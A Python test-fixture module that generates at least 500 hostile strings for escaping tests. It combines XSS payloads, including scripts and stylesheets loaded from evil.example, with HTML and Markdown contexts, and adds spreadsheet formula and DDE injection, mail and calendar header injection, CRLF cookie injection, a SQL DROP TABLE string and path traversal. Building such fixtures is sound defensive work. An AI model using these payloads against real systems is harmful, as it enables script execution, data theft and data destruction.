"""At least five hundred hostile strings: what does harm, in each of the places it tries to break out of (I1).

Generated, so that a new payload meets each place and a new place meets each payload.
"""

from typing import Final

#: What would run, load, move or reshape the page.
PAYLOADS: Final = (
    "<script>y7()</script>", "<ScRiPt src=//evil.example/y7.js></sCrIpT>", "<img src=x onerror=y7()>", "<svg onload=y7()>",
    "<svg><script href='data:,y7()'/></svg>", "<iframe srcdoc='<script>y7()</script>'></iframe>",
    "<body onpageshow=y7()>", "<details open ontoggle=y7()>y7</details>", "<math><mtext><img src=x onerror=y7()></mtext>",
    "<style>@import '//evil.example/y7.css';</style>", "<link rel=stylesheet href=//evil.example/y7.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
    "<form action=//evil.example><input name=y7><button>y7</button></form>", "<object data=//evil.example></object>",
    "<a href='javascript:y7()'>y7</a>", "<div hx-get=//evil.example hx-trigger=load>y7</div>",
    "<p id=main class=y7 style='position:fixed'>y7</p>", "<template><y7></template>", "<y7 is=x onclick=y7() x=",
    "<marquee onstart=y7()>", "<video><source onerror=y7()></video>", "<input autofocus onfocus=y7()>",
    "<table><tr><td>y7</td></tr></table>", "<h1>y7</h1>", "<![CDATA[<y7>]]>", "<?y7 echo 1 ?>", "<%= y7 %>",
    "\uff1cscript\uff1ey7()\uff1c/script\uff1e", "&lt;script&gt;y7()&lt;/script&gt;", "&#60;script&#62;y7()&#60;/script&#62;",
    "{{ 7|add:y7 }}{% debug %}{% load y7 %}", "${y7}#{y7}{{=y7}}", "' onmouseover='y7()' x='",
    '" onfocus="y7()" autofocus x="', "` onclick=y7() `", "javascript:y7()", "data:text/html,<script>y7()</script>",
)  # fmt: skip
#: Where a page could be printing: in text, an attribute, a raw element, a comment, Markdown, a mail, a feed, a table.
PLACES: Final = (
    "{}", '">{}', "'>{}", "</title>{}", "</textarea>{}", "</script>{}", "--><!-- -->{}", "<!--{}", "]]>{}<![CDATA[",
    "</option></select>{}", "**{}**", "[y7]({})", "![y7]({} 'x')", "={}",
)  # fmt: skip
#: What a table, a calendar or a mail would take for its own.
OTHERS: Final = (
    '=HYPERLINK("http://evil.example";"y7")', "=cmd|' /C y7'!A0", "+y7", "-y7+1", "@SUM(y7)", "\uff1dy7()", "|y7",
    "y7;BEGIN:VALARM", "y7\nEND:VEVENT\nBEGIN:VEVENT", "y7\nBcc: y7@evil.example", "y7\n\n<html><y7>", "%0d%0aSet-Cookie: y7",
    "y7'; DROP TABLE comments_comment; --", "../../etc/y7", "\\y7\\,\\;\\n", 'http://evil.example/y7"onclick=y7()',
)  # fmt: skip

HOSTILE: Final = tuple(dict.fromkeys([*(place.format(one) for place in PLACES for one in PAYLOADS), *OTHERS]))
assert len(HOSTILE) >= 500
